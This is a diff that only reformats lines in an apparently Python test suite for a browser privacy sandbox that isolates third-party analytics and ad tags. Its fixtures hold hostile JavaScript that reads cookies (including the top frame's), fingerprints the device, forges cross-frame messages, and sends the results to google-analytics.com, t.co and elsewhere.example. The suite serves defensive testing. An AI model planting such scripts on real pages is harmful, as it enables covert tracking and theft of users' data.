@@ -16,25 +16,30 @@ COLLECT = "www.google-analytics.com"
 # and all that it could find.
 CURIOUS_TAG = """
 (() => {
-  const attempt = (look) => { try { return String(look()) } catch (error) { return "refused: " + error.name } }
+  const attempt = (look) => { try { return String(look()) } catch (error) {
+    return "refused: " + error.name } }
   const found = {
     cookie: attempt(() => document.cookie), referrer: attempt(() => document.referrer),
     address: attempt(() => location.pathname), parent: attempt(() => parent.location.href),
     title: attempt(() => parent.document.title), own: attempt(() => document.title),
     top: attempt(() => top.document.cookie),
     origin: attempt(() => origin), languages: attempt(() => navigator.languages),
-    zone: attempt(() => Intl.DateTimeFormat().resolvedOptions().timeZone), screen: attempt(() => screen.width),
+    zone: attempt(() => Intl.DateTimeFormat().resolvedOptions().timeZone), screen: attempt(() =>
+      screen.width),
   }
   const lastWord = () => navigator.sendBeacon("https://www.google-analytics.com/last-word")
-  for (const event of ["pagehide", "unload", "beforeunload", "blur"]) addEventListener(event, lastWord)
+  for (const event of ["pagehide", "unload", "beforeunload", "blur"]) addEventListener(event,
+    lastWord)
   document.addEventListener("visibilitychange", lastWord)
   attempt(() => { document.cookie = "mine=1"; localStorage.mine = 1; indexedDB.open("mine") })
   let told = {}
   const act = ([kind, name, fields]) => {
     if (kind == "config" || kind == "set") told = { ...told, ...(fields ?? name) }
     if (kind != "event") return
-    const body = new URLSearchParams({ event: name, told: JSON.stringify(told), found: JSON.stringify(found) })
-    fetch("https://www.google-analytics.com/g/collect?" + body, { method: "POST", credentials: "include" })
+    const body = new URLSearchParams({ event: name, told: JSON.stringify(told), found:
+      JSON.stringify(found) })
+    fetch("https://www.google-analytics.com/g/collect?" + body, { method: "POST", credentials:
+      "include" })
     navigator.sendBeacon("https://www.google-analytics.com/beacon")
     new Image().src = "https://elsewhere.example/pixel.gif"
   }
@@ -143,7 +148,10 @@ def test_a_service_hears_nothing_from_another(visitor: Visit) -> None:
         "for (const i of [0, 1]) parent[i].postMessage('told')",
         "text/javascript",
     )
-    hears = "addEventListener('message', ({ data }) => { new Image().src = 'https://t.co/' + JSON.stringify(data) })"
+    hears = (
+        "addEventListener('message', ({ data }) => { new Image().src = "
+        "'https://t.co/' + JSON.stringify(data) })"
+    )
     visitor.recorder.answer(
         "static.ads-twitter.com", "/uwt.js", hears, "text/javascript"
     )
@@ -160,7 +168,8 @@ def test_a_service_is_told_nothing_by_another(visitor: Visit) -> None:
         fetch('https://www.google-analytics.com/' + call[1] + '?' + JSON.stringify([...call]))
       dataLayer.forEach(say)
       dataLayer.push = say"""
-    forge = """for (const i of [0, 1]) parent[i].postMessage({ told: { path: '/forged' }, track: ['forged', {}] }, '*')
+    forge = """for (const i of [0, 1]) parent[i].postMessage({ told: { path: '/forged' }, track:
+      ['forged', {}] }, '*')
       new Image().src = 'https://t.co/sent'"""
     visitor.recorder.answer(TAG, "/gtag/js", outspoken, "text/javascript")
     visitor.recorder.answer(
@@ -187,7 +196,8 @@ COVERED = {
     # Where a screen's ratio is 1 anyway, or the zone UTC, it must not be the device that says so.
     "Object.getOwnPropertyDescriptor(window, 'devicePixelRatio').value": "1",
     "RTCPeerConnection": "undefined",
-    "JSON.stringify(screen)": '{"width":1,"height":1,"availWidth":1,"availHeight":1,"colorDepth":24,"pixelDepth":24}',
+    "JSON.stringify(screen)": '{"width":1,"height":1,"availWidth":1,"availHeight":1,'
+    '"colorDepth":24,"pixelDepth":24}',
     "new Date().getTimezoneOffset()": "0",
     "String(Date.prototype.getTimezoneOffset).includes('native code')": "false",
     "Intl.DateTimeFormat().resolvedOptions().timeZone": "UTC",
@@ -202,7 +212,10 @@ def test_a_service_that_looks_around_finds_the_same_in_every_browser(
     visitor: Visit,
 ) -> None:
     look = "".join(f"{json.dumps(each)}: String({each})," for each in COVERED)
-    report = f"new Image().src = 'https://t.co/found?' + encodeURIComponent(JSON.stringify({{{look}}}))"
+    report = (
+        f"new Image().src = 'https://t.co/found?' + "
+        f"encodeURIComponent(JSON.stringify({{{look}}}))"
+    )
     visitor.recorder.answer(
         "static.ads-twitter.com", "/uwt.js", report, "text/javascript"
     )
